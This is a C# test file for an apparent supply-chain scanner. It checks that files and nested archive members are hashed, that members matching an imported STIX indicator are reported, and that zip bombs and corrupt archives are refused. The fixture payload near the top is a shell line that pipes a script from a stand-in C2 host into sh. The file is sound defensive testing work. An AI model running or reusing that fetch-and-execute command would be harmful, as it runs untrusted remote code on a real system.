using System.Formats.Tar;
using System.IO.Compression;
using System.Security.Cryptography;
using System.Text;
using PipeWatch.Diagnostics;
using PipeWatch.Events;
using PipeWatch.Sources;
using PipeWatch.Sources.Artifacts;
using PipeWatch.Tests.Detectors.ThreatIntel;
using PipeWatch.Tests.Support;
using Xunit;

namespace PipeWatch.Tests.Sources.Artifacts;

public sealed class ArtifactSourceTests : IDisposable
{
    private static readonly byte[] Payload = Encoding.UTF8.GetBytes("#!/bin/sh\ncurl -s https://c2.example/k | sh\n# stage two loader, build 7\n");
    private static readonly string PayloadSha256 = Convert.ToHexStringLower(SHA256.HashData(Payload));

    private readonly TempFolder _temp = new();

    public void Dispose() => _temp.Dispose();

    private string Dist => Directory.CreateDirectory(_temp.File("dist")).FullName;

    private static void Zip(string path, params (string Name, byte[] Content)[] members)
    {
        using var zip = ZipFile.Open(path, ZipArchiveMode.Create);
        foreach (var (name, content) in members)
        {
            using var stream = zip.CreateEntry(name, CompressionLevel.SmallestSize).Open();
            stream.Write(content);
        }
    }

    private static byte[] TarGz(params (string Name, byte[] Content)[] members)
    {
        using var buffer = new MemoryStream();
        using (var gzip = new GZipStream(buffer, CompressionLevel.Fastest, leaveOpen: true))
        using (var tar = new TarWriter(gzip))
        {
            foreach (var (name, content) in members) tar.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, name) { DataStream = new MemoryStream(content) });
        }

        return buffer.ToArray();
    }

    private static async Task<(List<Event> Events, IReadOnlyList<Problem> Problems)> Read(ArtifactSource source)
    {
        var problems = new ProblemLog();
        var events = new List<Event>();
        await foreach (var e in source.ReadAsync(new SourceContext(problems), TestContext.Current.CancellationToken)) events.Add(e);
        return (events, problems.Problems);
    }

    private void Bundle(string store)
    {
        var bundle = _temp.File("payload-intel.json");
        File.WriteAllText(bundle, $$"""
            {"type":"bundle","id":"bundle--5d0092c5-5f74-4287-9642-33f4c354e56d","objects":[
              {"type":"indicator","spec_version":"2.1","id":"indicator--8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f","created":"2026-10-01T00:00:00.000Z","modified":"2026-10-01T00:00:00.000Z",
               "name":"Stage-two loader","indicator_types":["malicious-activity"],"pattern_type":"stix",
               "pattern":"[file:hashes.'SHA-256' = '{{PayloadSha256}}' OR file:hashes.MD5 = '{{Convert.ToHexStringLower(MD5.HashData(Payload))}}']","valid_from":"2026-10-01T00:00:00Z","confidence":90}
            ]}
            """);
        IntelStore.Import(store, bundle);
    }

    [Fact]
    public async Task Every_file_and_archive_member_is_hashed_with_its_path()
    {
        File.WriteAllBytes(Path.Combine(Dist, "tool.bin"), Payload);
        Zip(Path.Combine(Dist, "app.whl"), ("pkg/__init__.py", "x = 1\n"u8.ToArray()), ("pkg/inner.tgz", TarGz(("bin/loader.sh", Payload))));

        var (events, problems) = await Read(new ArtifactSource(Dist));

        Assert.Empty(problems);
        Assert.Equal(
            [("app.whl", null), ("app.whl", "pkg/__init__.py"), ("app.whl", "pkg/inner.tgz"), ("app.whl", "pkg/inner.tgz!/bin/loader.sh"), ("tool.bin", null)],
            events.Select(e => (Path.GetFileName(e.Fields["file.path"]), e.Fields.GetValueOrDefault(ArtifactFields.Member))));
        Assert.All(events, e => Assert.Equal((EventKind.Telemetry, "pipewatch.artifact", "file"), (e.Kind, e.Dataset, e.Fields["event.category"])));
        Assert.Equal(PayloadSha256, events.Single(e => e.Fields.GetValueOrDefault(ArtifactFields.Member) == "pkg/inner.tgz!/bin/loader.sh").Fields["file.hash.sha256"]);
        Assert.Equal(Convert.ToHexStringLower(SHA1.HashData(Payload)), events.Single(e => e.Fields["file.path"].EndsWith("tool.bin", StringComparison.Ordinal)).Fields["file.hash.sha1"]);
        Assert.DoesNotContain("file.hash.md5", (await Read(new ArtifactSource(Dist, ArtifactHashes.Sha256))).Events[0].Fields.Keys);
    }

    [Fact]
    public async Task A_member_of_an_archive_whose_sha256_is_in_an_imported_stix_bundle_is_reported_by_name()
    {
        var store = _temp.File("store.db");
        Bundle(store);
        Zip(Path.Combine(Dist, "release.zip"), ("README.md", "# release\n"u8.ToArray()), ("lib/helper.so", Payload));

        var result = await Ingest.RunSourcesAsync(store, [new ArtifactSource(Dist)]);

        var finding = Assert.Single(result.Findings);
        Assert.Equal("threat-intel.malicious-hash", finding.Rule);
        Assert.Equal(PipeWatch.Findings.Severity.Critical, finding.Severity);
        Assert.Equal($"Member 'lib/helper.so' of artifact '{Path.Combine(Dist, "release.zip")}' matches a known-bad SHA256", finding.Title);
        Assert.Equal("lib/helper.so", finding.Evidence.Single(e => e.Name == "archive_member").Value);
        Assert.Equal("payload-intel.json", finding.Evidence.Single(e => e.Name == "feed").Value);
        Assert.Equal(Path.Combine(Dist, "release.zip"), finding.Location.File);
        Assert.Contains("Stage-two loader", finding.Explanation, StringComparison.Ordinal);
        Assert.Empty(result.Problems);
    }

    [Fact]
    public async Task Benign_artifacts_raise_nothing()
    {
        var store = _temp.File("store.db");
        Bundle(store);
        File.WriteAllText(Path.Combine(Dist, "app.js"), "console.log('hello');\n");
        Zip(Path.Combine(Dist, "site.zip"), ("index.html", "<html></html>"u8.ToArray()));
        File.WriteAllBytes(Path.Combine(Dist, "src.tar.gz"), TarGz(("src/main.c", "int main(void) { return 0; }\n"u8.ToArray())));

        var result = await Ingest.RunSourcesAsync(store, [new ArtifactSource(Dist)]);

        Assert.Equal(5, result.Summary.Events);
        Assert.Empty(result.Findings);
        Assert.Empty(result.Problems);
    }

    [Fact]
    public async Task A_zip_bomb_is_refused_with_a_problem_and_the_rest_is_read()
    {
        Zip(Path.Combine(Dist, "bomb.zip"), ("zeros.bin", new byte[64 << 20]), ("ok.txt", "fine\n"u8.ToArray()));

        var (events, problems) = await Read(new ArtifactSource(Dist));

        var problem = Assert.Single(problems);
        Assert.Equal(Path.Combine(Dist, "bomb.zip"), problem.File);
        Assert.Matches(@"^zeros\.bin: refused, inflates \d+× \(67,108,864 bytes declared\): a zip bomb\?$", problem.Reason);
        Assert.Equal(["bomb.zip", "ok.txt"], events.Select(e => e.Fields["file.name"]));
    }

    [Fact]
    public async Task A_member_that_unpacks_past_the_limit_is_refused_as_read_whatever_it_declares()
    {
        Zip(Path.Combine(Dist, "big.jar"), ("blob.bin", RandomNumberGenerator.GetBytes(3 << 20)), ("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n"u8.ToArray()));

        var (events, problems) = await Read(new ArtifactSource(Dist, limits: new ArtifactLimits { MaxMemberBytes = 1 << 20 }));

        Assert.Equal("blob.bin: refused, larger than 1,048,576 bytes once unpacked (a zip bomb?)", Assert.Single(problems).Reason);
        Assert.Equal(["big.jar", "MANIFEST.MF"], events.Select(e => e.Fields["file.name"]));
    }

    [Fact]
    public async Task A_corrupt_archive_is_a_problem_and_the_file_itself_is_still_hashed()
    {
        File.WriteAllText(Path.Combine(Dist, "broken.tgz"), "not gzip at all");

        var (events, problems) = await Read(new ArtifactSource(Dist));

        Assert.StartsWith("not a readable tgz archive (", Assert.Single(problems).Reason, StringComparison.Ordinal);
        Assert.Equal("broken.tgz", Assert.Single(events).Fields["file.name"]);
    }
}
